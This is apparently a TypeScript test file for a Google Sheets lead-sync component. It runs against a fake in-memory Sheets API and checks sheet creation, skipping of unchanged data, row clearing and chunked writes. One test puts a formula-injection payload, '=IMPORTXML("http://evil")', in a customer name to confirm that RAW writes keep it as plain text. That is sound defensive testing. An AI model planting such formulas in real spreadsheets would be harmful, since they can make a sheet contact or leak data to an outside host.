import { createGoogleSheetsSpreadsheet } from '../src/sync/spreadsheet/googleSheetsSpreadsheet';
import { HEADER } from '../src/sync/spreadsheet/sheetLayout';
import { startFakeGoogleApi, testGoogleAuth } from './support/fakeGoogleApi';
import { lead, MARCH_2025 } from './support/leads';

/** A spreadsheet held in memory behind the documented Sheets v4 endpoints. */
function fakeSheets(initial: Record<string, string[][]>) {
  const sheets: Record<string, string[][]> = { ...initial };
  const rowsOf = (range: string) => {
    const [, name, from] = /^(\w+)!A(\d+)/.exec(range)!;
    return { name: name!, from: Number(from) };
  };
  return {
    sheets,
    handler: ({
      method,
      path,
      query,
      body,
    }: {
      method: string;
      path: string;
      query: URLSearchParams;
      body: unknown;
    }) => {
      const base = '/v4/spreadsheets/sheet-1';
      if (method === 'GET' && path === base) {
        return { body: { sheets: Object.keys(sheets).map((title) => ({ properties: { title } })) } };
      }
      if (method === 'POST' && path === `${base}:batchUpdate`) {
        for (const request of (body as { requests: { addSheet: { properties: { title: string } } }[] })
          .requests) {
          sheets[request.addSheet.properties.title] = [];
        }
        return { body: { spreadsheetId: 'sheet-1', replies: [] } };
      }
      if (method === 'GET' && path === `${base}/values:batchGet`) {
        return {
          body: {
            spreadsheetId: 'sheet-1',
            valueRanges: query.getAll('ranges').map((range) => ({
              range,
              majorDimension: 'ROWS',
              values: (sheets[rowsOf(range).name] ?? []).slice(1),
            })),
          },
        };
      }
      if (method === 'POST' && path === `${base}/values:batchUpdate`) {
        const request = body as { valueInputOption: string; data: { range: string; values: string[][] }[] };
        if (request.valueInputOption !== 'RAW')
          return { status: 400, body: { error: { message: 'expected RAW' } } };
        for (const { range, values } of request.data) {
          const { name, from } = rowsOf(range);
          const sheet = sheets[name]!;
          values.forEach((row, index) => (sheet[from - 1 + index] = row));
        }
        return { body: { spreadsheetId: 'sheet-1', totalUpdatedRows: 1 } };
      }
      if (method === 'POST' && path === `${base}/values:batchClear`) {
        for (const range of (body as { ranges: string[] }).ranges) {
          const { name, from } = rowsOf(range);
          sheets[name]!.length = from - 1;
        }
        return { body: { spreadsheetId: 'sheet-1', clearedRanges: [] } };
      }
      return { status: 404, body: { error: { message: `no ${method} ${path}` } } };
    },
  };
}

describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
  it('adds the missing sheets and writes the same layout as the .xlsx file', async () => {
    const sheets = fakeSheets({ Sheet1: [] });
    const google = await startFakeGoogleApi(sheets.handler);
    const sink = createGoogleSheetsSpreadsheet({
      auth: await testGoogleAuth(),
      spreadsheetId: 'sheet-1',
      rootUrl: google.rootUrl,
    });

    const result = await sink.write(
      [lead(), lead({ leadId: 'u', isFormatted: false, customerName: '=IMPORTXML("http://evil")' })],
      MARCH_2025,
      't1',
      () => {},
    );

    expect(result).toEqual({ written: 2, removed: 0 });
    expect(sheets.sheets.Leads?.[0]).toEqual([...HEADER]);
    expect(sheets.sheets.Leads?.[1]?.[0]).toBe('lead-1');
    expect(sheets.sheets.Unformatted?.[1]?.[1]).toBe('=IMPORTXML("http://evil")'); // RAW: stays text
    await google.close();
  });

  it('writes nothing when nothing changed, and clears rows that are gone', async () => {
    const sheets = fakeSheets({ Leads: [], Unformatted: [] });
    const google = await startFakeGoogleApi(sheets.handler);
    const sink = createGoogleSheetsSpreadsheet({
      auth: await testGoogleAuth(),
      spreadsheetId: 'sheet-1',
      rootUrl: google.rootUrl,
    });
    await sink.write([lead(), lead({ leadId: 'gone' })], MARCH_2025, 't1', () => {});

    const writesBefore = google.requests.filter((request) => request.method === 'POST').length;
    expect(await sink.write([lead(), lead({ leadId: 'gone' })], MARCH_2025, 't2', () => {})).toEqual({
      written: 0,
      removed: 0,
    });
    expect(google.requests.filter((request) => request.method === 'POST').length).toBe(writesBefore);

    expect(await sink.write([lead()], MARCH_2025, 't3', () => {})).toEqual({ written: 0, removed: 1 });
    expect(sheets.sheets.Leads).toHaveLength(2); // header + lead-1
    await google.close();
  });

  it('writes large sheets in chunks', async () => {
    const sheets = fakeSheets({ Leads: [], Unformatted: [] });
    const google = await startFakeGoogleApi(sheets.handler);
    const sink = createGoogleSheetsSpreadsheet({
      auth: await testGoogleAuth(),
      spreadsheetId: 'sheet-1',
      rootUrl: google.rootUrl,
    });
    const many = Array.from({ length: 6500 }, (_, index) => lead({ leadId: `l${index}` }));
    await sink.write(many, MARCH_2025, 't1', () => {});
    const updates = google.requests.filter((request) => request.path.endsWith('values:batchUpdate'));
    expect(updates.length).toBeGreaterThan(1);
    for (const update of updates) {
      for (const range of (update.body as { data: { values: unknown[] }[] }).data)
        expect(range.values.length).toBeLessThanOrEqual(1000);
    }
    expect(sheets.sheets.Leads).toHaveLength(6501);
    await google.close();
  });
});
